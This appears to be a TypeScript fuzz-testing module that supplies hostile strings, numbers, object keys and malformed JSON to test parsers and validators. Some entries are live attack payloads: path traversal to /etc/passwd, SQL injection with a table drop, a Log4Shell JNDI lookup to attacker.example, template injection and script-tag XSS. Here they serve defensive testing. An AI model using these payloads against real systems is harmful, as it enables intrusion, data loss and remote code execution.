/**
 * Hostile values for the fuzz generators: unicode tricks, control and bidi
 * characters, lone surrogates, look-alike ids, huge and degenerate numbers,
 * wrong types, prototype-pollution keys and deep nesting. Values that JSON
 * cannot carry (lone surrogates survive `JSON.stringify` as escapes; `1e999`
 * parses to Infinity) are produced as JSON text by {@linkcode hostileJson}.
 *
 * @module
 */

import type { Random } from "./random.ts";

/** Strings that have broken parsers, validators, logs or terminals somewhere. */
export const HOSTILE_STRINGS: readonly string[] = [
  "",
  " ",
  "\t\n\r",
  "\u0000",
  "a\u0000b",
  "\u0007\u0008\u001b[31mred\u001b[0m",
  "\u0085next line",
  "\u2028\u2029",
  "\u200b\u200c\u200d\u2060\ufeff",
  "zero\u200bwidth",
  "\u202eevil\u202c",
  "\u2066isolate\u2069",
  "\u202dover\u202c",
  "с\u0430о\u0455", // Cyrillic look-alikes of "caos"
  "chаos-0001", // Cyrillic а in an id
  "ｆｕｌｌｗｉｄｔｈ",
  "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301", // stacked combining marks
  "Z̷̢̛̪͈̫̞̟̈́͊̓̈́a̶̧̯̹͎̓͌̈́l̸̰̪̀g̸̺̈́o̵̧̎",
  "👩‍👩‍👧‍👦🏳️‍🌈🇷🇺",
  "\ud83d",
  "\ude00",
  "\udbff\udfff",
  "🙂".repeat(2_000),
  "שלום مرحبا",
  "../../../etc/passwd",
  "..%2f..%2fetc%2fpasswd",
  "%00",
  "%E2%80%AE",
  "' OR '1'='1' --",
  "'; drop table actor_snapshots; --",
  "${jndi:ldap://attacker.example/a}",
  "{{7*7}}",
  "<script>alert(1)</script>",
  "javascript:alert(1)",
  "__proto__",
  "constructor",
  "prototype",
  "NaN",
  "Infinity",
  "-0",
  "1e999",
  "null",
  "undefined",
  "true",
  "[object Object]",
  "x".repeat(129),
  "x".repeat(10_000),
  "я".repeat(5_000),
];

/** Numbers at and beyond every edge. */
export const HOSTILE_NUMBERS: readonly number[] = [
  0,
  -0,
  -1,
  1.5,
  0.1 + 0.2,
  1e9,
  1e9 + 1,
  -1e9 - 1,
  2 ** 31,
  2 ** 53,
  2 ** 53 + 2,
  Number.MAX_VALUE,
  Number.MIN_VALUE,
  -Number.MAX_VALUE,
  1e-320,
];

/** Object keys aimed at prototype pollution and lookup confusion. */
export const HOSTILE_KEYS: readonly string[] = [
  "__proto__",
  "constructor",
  "prototype",
  "hasOwnProperty",
  "toString",
  "valueOf",
  "__defineGetter__",
  "",
  " ",
  "\u0000",
  "userId\u200b",
];

/** A random wrong-typed or hostile JSON value. */
export function hostileValue(random: Random, depth = 0): unknown {
  switch (random.int(depth > 2 ? 6 : 9)) {
    case 0:
      return random.pick(HOSTILE_STRINGS);
    case 1:
      return random.pick(HOSTILE_NUMBERS);
    case 2:
      return random.pick([true, false, null]);
    case 3:
      return random.int(1000) - 500;
    case 4:
      return random.pick(["order", "view", "2026-01-01T00:00:00Z", "chaos-0001", "ru", "en", "like"]);
    case 5:
      return {};
    case 6:
      return Array.from({ length: random.int(4) }, () => hostileValue(random, depth + 1));
    case 7:
      return Object.fromEntries(
        Array.from(
          { length: 1 + random.int(3) },
          () => [random.pick(HOSTILE_KEYS), hostileValue(random, depth + 1)],
        ),
      );
    default:
      return { [random.pick(HOSTILE_KEYS)]: { polluted: true } };
  }
}

/**
 * A JSON document that `JSON.stringify` cannot make: `__proto__` as an own
 * key, numbers out of range, deep nesting, duplicate keys, or plain garbage.
 */
export function hostileJson(random: Random): string {
  switch (random.int(10)) {
    case 0:
      return `{"__proto__": {"isAdmin": true}, "message": "hi"}`;
    case 1:
      return `{"constructor": {"prototype": {"polluted": true}}}`;
    case 2:
      return `{"message": 1e999}`;
    case 3:
      return "[".repeat(5_000 + random.int(20_000)) + "]".repeat(5_000);
    case 4:
      return `{"message": "a", "message": {"nested": true}}`;
    case 5:
      return random.pick(["", " ", "null", "true", "0", '"string"', "[]", "{}", "[{}]"]);
    case 6:
      return random.pick(["{", "}", '{"a":', "{'single': 'quotes'}", "{a: 1}", "[1,]", '{"a":1,}', "NaN"]);
    case 7:
      return `{"message": "\\ud800 lone", "sessionId": "\\u0000"}`;
    case 8:
      return '\ufeff{"message": "bom"}';
    default:
      return `{"message": "${"x".repeat(random.int(3) === 0 ? 70_000 : 300)}"}`;
  }
}
